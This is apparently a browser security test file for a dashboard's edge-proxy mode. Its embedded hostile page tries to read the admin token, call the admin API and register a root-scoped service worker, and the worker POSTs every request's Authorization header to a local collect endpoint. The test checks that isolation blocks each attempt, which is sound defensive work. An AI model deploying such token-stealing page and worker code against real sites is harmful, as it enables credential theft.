// A hostile customer origin behind edge mode, in Chromium: its proxied page and the service worker its
// script registers must never reach the admin token (sessionStorage of the dashboard's origin) nor the
// admin API with it. Catches: edge content served on the dashboard's origin, Service-Worker-Allowed passed
// through (a worker with scope `/` sees every dashboard request and its Authorization header).
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Browser } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { ADMIN_TOKEN, baseUrl, edgeUrl, eventually, launch, newVisitor } from './browser'

type Report = { token: string | null; storage: string; sameOriginApi: number | string; adminApi: number | string; framedStorage: string; rootScope: string; ownScope: string }

let browser: Browser
let origin: Server
let originBase = ''
/** What the hostile service worker saw: every request it intercepted, with its Authorization header. */
const seenByWorker: Array<{ url: string; auth: string | null }> = []

const page = (admin: string) => `<!doctype html><title>Hostile page</title><p>hostile</p><script type="module">
// A second visit only shows the worker is live; the probes run once.
if (location.search !== '?again') await probe()
async function probe() {
const report = {}
report.token = sessionStorage.getItem('cairn_admin_token')
report.storage = JSON.stringify({ ...sessionStorage, ...localStorage }) + document.cookie
const status = (p) => p.then((r) => r.status, () => 'blocked')
report.sameOriginApi = await status(fetch('/api/sites', { headers: { authorization: 'Bearer ' + report.token } }))
report.adminApi = await status(fetch('${admin}/api/sites', { credentials: 'include' }))
const frame = document.createElement('iframe')
frame.src = '${admin}/dashboard/'
await new Promise((resolve) => { frame.onload = resolve; document.body.append(frame) })
try { report.framedStorage = String(frame.contentWindow.sessionStorage.getItem('cairn_admin_token')) } catch (e) { report.framedStorage = e.name }
report.rootScope = await navigator.serviceWorker.register('sw.js', { scope: '/' }).then((r) => r.scope, (e) => e.name)
report.ownScope = await navigator.serviceWorker.register('sw.js').then((r) => r.scope, (e) => e.name)
await navigator.serviceWorker.ready
window.__report = report
}
</script>`

const worker = (collect: string) => `self.addEventListener('install', () => self.skipWaiting())
self.addEventListener('activate', (event) => event.waitUntil(self.clients.claim()))
self.addEventListener('fetch', (event) => {
  const body = JSON.stringify({ url: event.request.url, auth: event.request.headers.get('authorization') })
  event.waitUntil(fetch('${collect}', { method: 'POST', mode: 'no-cors', body }))
})`

beforeAll(async () => {
  browser = await launch()
  origin = createServer((req, res) => {
    const path = (req.url ?? '/').split('?')[0]
    if (req.method === 'POST' && path === '/collect') {
      let body = ''
      req.on('data', (chunk) => (body += chunk))
      req.on('end', () => {
        seenByWorker.push(JSON.parse(body))
        res.writeHead(204).end()
      })
      return
    }
    if (path === '/sw.js') {
      res.writeHead(200, { 'content-type': 'text/javascript', 'service-worker-allowed': '/' }).end(worker(`${originBase}/collect`))
      return
    }
    if (path === '/evil.html') {
      res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(page(baseUrl()))
      return
    }
    res.writeHead(404).end()
  })
  await new Promise<void>((resolve) => origin.listen(0, '127.0.0.1', resolve))
  originBase = `http://127.0.0.1:${(origin.address() as AddressInfo).port}`
})

afterAll(async () => {
  await browser?.close()
  await new Promise((resolve) => origin?.close(resolve))
})

async function hostileSite(): Promise<string> {
  const response = await fetch(`${baseUrl()}/api/sites`, {
    method: 'POST',
    headers: { authorization: `Bearer ${ADMIN_TOKEN}`, 'content-type': 'application/json' },
    body: JSON.stringify({ name: 'Hostile origin', origins: [edgeUrl()], origin: originBase }),
  })
  expect(response.status).toBe(201)
  return ((await response.json()) as { key: string }).key
}

describe('edge mode isolation from the dashboard', () => {
  it('a proxied page and its service worker cannot reach the admin token or the admin API', async () => {
    const key = await hostileSite()
    const { context, page: dashboard } = await newVisitor(browser)
    // The marketer is signed in: the token sits in the dashboard origin's sessionStorage.
    await dashboard.goto(`${baseUrl()}/dashboard/`)
    await dashboard.fill('#token', ADMIN_TOKEN)
    await dashboard.click('#sign-in')
    await dashboard.waitForSelector('#sites-view:not([hidden])')

    // The admin host never serves proxied content at all.
    const refused = await dashboard.context().request.get(`${baseUrl()}/edge/${key}/evil.html`)
    expect(refused.status()).toBe(404)

    const hostile = await context.newPage()
    await hostile.goto(`${edgeUrl()}/edge/${key}/evil.html`)
    const report = (await eventually(async () => {
      const value = await hostile.evaluate(() => (window as unknown as { __report?: Report }).__report)
      if (!value) throw new Error('hostile page still running')
      return value
    })) as Report
    expect(report.token).toBeNull()
    expect(report.storage).not.toContain(ADMIN_TOKEN)
    expect(report.sameOriginApi).toBe(404) // the edge host has no admin API
    expect(report.adminApi).toBe('blocked') // CORS: the admin API is unreadable from the edge origin
    expect(report.framedStorage).toBe('SecurityError') // another origin's storage
    expect(report.rootScope).toBe('SecurityError') // no Service-Worker-Allowed: scope `/` refused
    expect(report.ownScope).toBe(`${edgeUrl()}/edge/${key}/`)

    // The worker is live in its own scope (so it would have reported the dashboard's requests if it could)…
    await hostile.goto(`${edgeUrl()}/edge/${key}/evil.html?again`)
    await eventually(async () => expect(seenByWorker.some((r) => r.url.includes(`/edge/${key}/evil.html?again`))).toBe(true))
    // …while the dashboard keeps calling the admin API with its token, unseen.
    await dashboard.reload()
    await dashboard.waitForSelector('#sites-view:not([hidden])')
    expect(seenByWorker.length).toBeGreaterThan(0)
    expect(seenByWorker.filter((r) => r.auth !== null || r.url.startsWith(baseUrl()))).toEqual([])
    await context.close()
  })
})
